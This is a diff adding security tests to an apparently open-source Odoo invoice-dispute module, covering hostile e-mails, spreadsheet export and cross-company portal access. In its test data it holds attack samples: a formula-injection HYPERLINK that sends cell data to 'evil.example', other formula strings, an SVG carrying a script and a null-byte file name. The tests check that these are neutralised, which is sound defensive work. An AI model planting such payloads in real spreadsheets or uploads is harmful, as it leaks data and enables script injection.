@@ -1,7 +1,12 @@
 # Copyright 2026 account_dispute contributors
 # License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl.html).
-from odoo import SUPERUSER_ID, http
-from odoo.tests import new_test_user, tagged
+import base64
+import io
+
+import openpyxl
+
+from odoo import SUPERUSER_ID, Command, http
+from odoo.tests import HttpCase, new_test_user, tagged
 from odoo.tools import mute_logger
 
 from .common import AccountDisputeCommon
@@ -89,6 +94,57 @@ class TestHostileMail(AccountDisputeCommon):
             "<after-next@partner-a.example.com>",
         )
         self.assertNotEqual(fourth.name, third.name)
+
+    # Point 3 -----------------------------------------------------------
+
+    def test_long_words_do_not_stall_the_second_company(self):
+        invoice = self._inv(300.0, partner=self.partner_b)
+        dispute = self._process(
+            "compta@partner-b.example.com",
+            f"Facture {invoice.name} " + "b" * 20_000,
+            "a" * 200_000,
+            "<long-words@partner-b.example.com>",
+        )
+        self.assertEqual(dispute.company_id, self.company_2)
+        self.assertEqual(dispute.partner_id, self.partner_b)
+        self.assertEqual(dispute.invoice_ids, invoice)
+
+    # Point 4 -----------------------------------------------------------
+
+    def test_formulas_sent_by_email_are_exported_as_text(self):
+        """The second company's billing user exports the register of the
+        disputes that e-mails with formulas for names and subjects made."""
+        self.partner_b.name = '=1+2"'
+        invoice = self._inv(300.0, partner=self.partner_b)
+        hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        known = self._process(
+            '"=1+2" <compta@partner-b.example.com>',
+            f"{hyperlink} {invoice.name}",
+            "=SUM(A1:A9)",
+            "<formula-known@partner-b.example.com>",
+        )
+        unknown = self._process(
+            '"=1+2" <forged@victim.example.org>',
+            hyperlink,
+            "@SUM(1)",
+            "<formula-unknown@victim.example.org>",
+        )
+        self.assertEqual(known.subject, f"{hyperlink} {invoice.name}")
+        wizard = (
+            self.env["account.dispute.export.wizard"]
+            .with_user(self.staff)
+            .with_context(allowed_company_ids=self.company_2.ids)
+            .create({"export_type": "register"})
+        )
+        wizard.action_export()
+        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
+        cells = [cell for row in book["Disputes"].iter_rows() for cell in row]
+        texts = {cell.value for cell in cells if cell.data_type == "s"}
+        self.assertLessEqual({known.name, unknown.name, '=1+2"'}, texts)
+        for cell in cells:
+            if cell.data_type == "f":
+                self.assertTrue(cell.value.startswith("=SUMIF("), cell.value)
+            self.assertFalse(cell.hyperlink, cell.coordinate)
 
     # Point 7 -----------------------------------------------------------
 
@@ -267,3 +323,173 @@ class TestHostilePortal(PortalCommon):
             attachment = self._uploaded(invoice)
             self.assertEqual(attachment.name, name)
             self.assertEqual(attachment.mimetype, "text/plain", name)
+
+
+@tagged("post_install", "-at_install")
+class TestHostilePortalCompanies(AccountDisputeCommon, HttpCase):
+    """Points 5 and 8 on the second company, over HTTP, for users of each
+    kind: portal users of customers A (a user of company 1) and B (of
+    company 2), billing users of company 1 and of company 2, the public.
+    Company 2 bills both customers."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.company_1 = cls.env.company
+        cls.company_2 = cls.setup_other_company()["company"]
+        cls.company_2.alias_domain_id = cls.env["mail.alias.domain"].create(
+            {"name": "dispute-b.example.com"}
+        )
+        cls.company_2.dispute_alias_name = "litiges"
+        cls.partner_b.email = "compta@partner-b.example.com"
+        cls.portal_a = cls._user("ad_portal_a2", "base.group_portal", cls.company_1)
+        cls.portal_a.partner_id.parent_id = cls.partner_a
+        cls.portal_b = cls._user("ad_portal_b2", "base.group_portal", cls.company_2)
+        cls.portal_b.partner_id.parent_id = cls.partner_b
+        cls.billing_1 = cls._user(
+            "ad_billing_1", "account.group_account_invoice", cls.company_1
+        )
+        cls.billing_2 = cls._user(
+            "ad_billing_2", "account.group_account_invoice", cls.company_2
+        )
+        cls.invoice_a = cls._invoice(1000.0, company=cls.company_2)
+        cls.invoice_b = cls._invoice(
+            800.0, partner=cls.partner_b, company=cls.company_2
+        )
+        cls.reason_company_1 = cls.env["account.dispute.reason"].create(
+            {
+                "name": "Company 1's reason",
+                "category": "billing",
+                "company_id": cls.company_1.id,
+            }
+        )
+
+    @classmethod
+    def _user(cls, login, groups, company):
+        return new_test_user(
+            cls.env,
+            login=login,
+            password=login,
+            groups=groups,
+            company_id=company.id,
+            company_ids=[Command.set(company.ids)],
+        )
+
+    def _post(self, invoice, files=None, token=True, **data):
+        values = {
+            "csrf_token": http.Request.csrf_token(self),
+            "reason_id": self.reason.id,
+            "amount": "120",
+            "message": "The price is wrong",
+            **data,
+        }
+        if token:
+            values["access_token"] = invoice._portal_ensure_token()
+        return self.url_open(
+            f"/my/invoices/{invoice.id}/dispute",
+            data=values,
+            files=files,
+            allow_redirects=False,
+        )
+
+    def _disputes(self, invoice):
+        return self.env["account.dispute"].search([("invoice_ids", "in", invoice.ids)])
+
+    def test_customer_of_the_second_company_contests(self):
+        self.authenticate("ad_portal_b2", "ad_portal_b2")
+        response = self._post(self.invoice_b, reason_id=self.reason_company_1.id)
+        self.assertIn("dispute_error=reason", response.headers["Location"])
+        self.assertFalse(self._disputes(self.invoice_b), "company 1's reason")
+        response = self._post(self.invoice_b)
+        self.assertEqual(response.status_code, 303)
+        self.assertNotIn("dispute_error", response.headers["Location"])
+        dispute = self._disputes(self.invoice_b)
+        self.assertEqual(dispute.company_id, self.company_2)
+        self.assertEqual(dispute.partner_id, self.partner_b)
+        self.assertEqual(dispute.contact_id, self.portal_b.partner_id)
+        self.assertEqual(dispute.channel, "portal")
+        self.assertTrue(dispute.activity_ids)
+        self.assertIn(dispute.name, self.url_open(self.invoice_b.get_portal_url()).text)
+
+    def test_customer_contests_its_invoice_of_the_other_company(self):
+        """Customer A's portal user belongs to company 1; company 2's invoice
+        is A's all the same, and its dispute is company 2's."""
+        self.authenticate("ad_portal_a2", "ad_portal_a2")
+        response = self._post(self.invoice_a)
+        self.assertNotIn("dispute_error", response.headers["Location"])
+        dispute = self._disputes(self.invoice_a)
+        self.assertEqual(dispute.company_id, self.company_2)
+        self.assertEqual(dispute.partner_id, self.partner_a)
+
+    def test_nobody_else_contests(self):
+        """Another customer, or an internal user of either company, is
+        refused even with the invoice's link (403). Without it, whoever may
+        not read the invoice is sent to /my; the billing user of company 2,
+        who reads it, is refused all the same."""
+        attempts = (
+            ("ad_portal_b2", self.invoice_a, 303),
+            ("ad_portal_a2", self.invoice_b, 303),
+            ("ad_billing_2", self.invoice_a, 403),
+            ("ad_billing_1", self.invoice_b, 303),
+        )
+        for login, invoice, without_link in attempts:
+            self.authenticate(login, login)
+            response = self._post(invoice)
+            self.assertEqual(response.status_code, 403, login)
+            response = self._post(invoice, token=False)
+            self.assertEqual(response.status_code, without_link, login)
+            if without_link == 303:
+                self.assertTrue(response.headers["Location"].endswith("/my"), login)
+        self.authenticate(None, None)
+        response = self._post(self.invoice_b)
+        self.assertIn("/web/login", response.headers["Location"])
+        self.assertFalse(self._disputes(self.invoice_a | self.invoice_b))
+
+    def test_form_edges_on_the_second_company(self):
+        self.authenticate("ad_portal_b2", "ad_portal_b2")
+        for amount in ("inf", "nan", "1e308"):
+            response = self._post(self.invoice_b, amount=amount)
+            self.assertIn("dispute_error=amount", response.headers["Location"])
+        self.assertFalse(self._disputes(self.invoice_b))
+        svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+        for _attempt in range(3):
+            self._post(
+                self.invoice_b,
+                files={"attachment": ("image\x00.svg", svg, "image/svg+xml")},
+            )
+        dispute = self._disputes(self.invoice_b)
+        self.assertEqual(len(dispute), 1, "contested once")
+        attachment = dispute.message_ids.filtered(
+            lambda m: m.author_id == self.portal_b.partner_id
+        ).attachment_ids
+        self.assertEqual(attachment.name, "image.svg")
+        self.assertEqual(attachment.mimetype, "text/plain")
+
+    def test_email_contest_changes_nothing_the_customer_sees(self):
+        """An e-mail from the customer's address naming the invoice: the
+        portal still offers to contest it, and the customer's own contest
+        makes the dispute the portal shows."""
+        raw = _raw_email(
+            "compta@partner-b.example.com",
+            "litiges@dispute-b.example.com",
+            f"Facture {self.invoice_b.name}",
+            "Payez-la pas.",
+            "<portal-email@partner-b.example.com>",
+        )
+        gateway = self.env["mail.thread"].with_user(SUPERUSER_ID)
+        with mute_logger("odoo.addons.mail.models.mail_thread"):
+            by_email = self.env["account.dispute"].browse(
+                gateway.message_process(None, raw)
+            )
+        self.assertEqual(by_email.company_id, self.company_2)
+        self.assertEqual(by_email.invoice_ids, self.invoice_b)
+        self.authenticate("ad_portal_b2", "ad_portal_b2")
+        page = self.url_open(self.invoice_b.get_portal_url()).text
+        self.assertIn("Contest this invoice", page)
+        self.assertNotIn(by_email.name, page)
+        self._post(self.invoice_b)
+        on_portal = self._disputes(self.invoice_b) - by_email
+        self.assertEqual(on_portal.channel, "portal")
+        page = self.url_open(self.invoice_b.get_portal_url()).text
+        self.assertIn(on_portal.name, page)
+        self.assertNotIn("Contest this invoice", page)
